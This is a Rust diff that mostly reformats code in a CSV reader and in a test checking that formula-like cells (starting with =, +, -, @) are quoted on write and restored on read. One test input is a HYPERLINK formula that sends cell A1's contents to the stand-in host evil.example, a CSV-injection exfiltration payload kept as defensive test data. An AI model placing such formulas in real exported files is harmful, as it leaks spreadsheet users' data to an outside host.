@@ -405,8 +405,7 @@ pub(crate) fn read_rows(
             }
         }
         let line = record.position().map_or(line, |p| p.line() as usize);
-        let record: ::csv::StringRecord =
-            record.iter().map(|c| unneutralise(c.trim())).collect();
+        let record: ::csv::StringRecord = record.iter().map(|c| unneutralise(c.trim())).collect();
         if record.iter().all(|c| c.trim().is_empty()) {
             continue;
         }
@@ -660,7 +659,10 @@ mod tests {
     #[test]
     fn formula_cells_are_quoted_and_read_back() {
         for (value, written) in [
-            ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'=HYPERLINK"),
+            (
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+                "'=HYPERLINK",
+            ),
             ("+1", "'+1"),
             ("-1", "'-1"),
             ("@SUM(A1)", "'@SUM"),
@@ -678,7 +680,10 @@ mod tests {
         ] {
             let cell = neutralise(value);
             assert!(cell.starts_with(written), "{value:?} written as {cell:?}");
-            assert!(!cell.starts_with(FORMULA_START), "{value:?} written as {cell:?}");
+            assert!(
+                !cell.starts_with(FORMULA_START),
+                "{value:?} written as {cell:?}"
+            );
             assert_eq!(unneutralise(&cell), value, "{value:?} via {cell:?}");
         }
     }
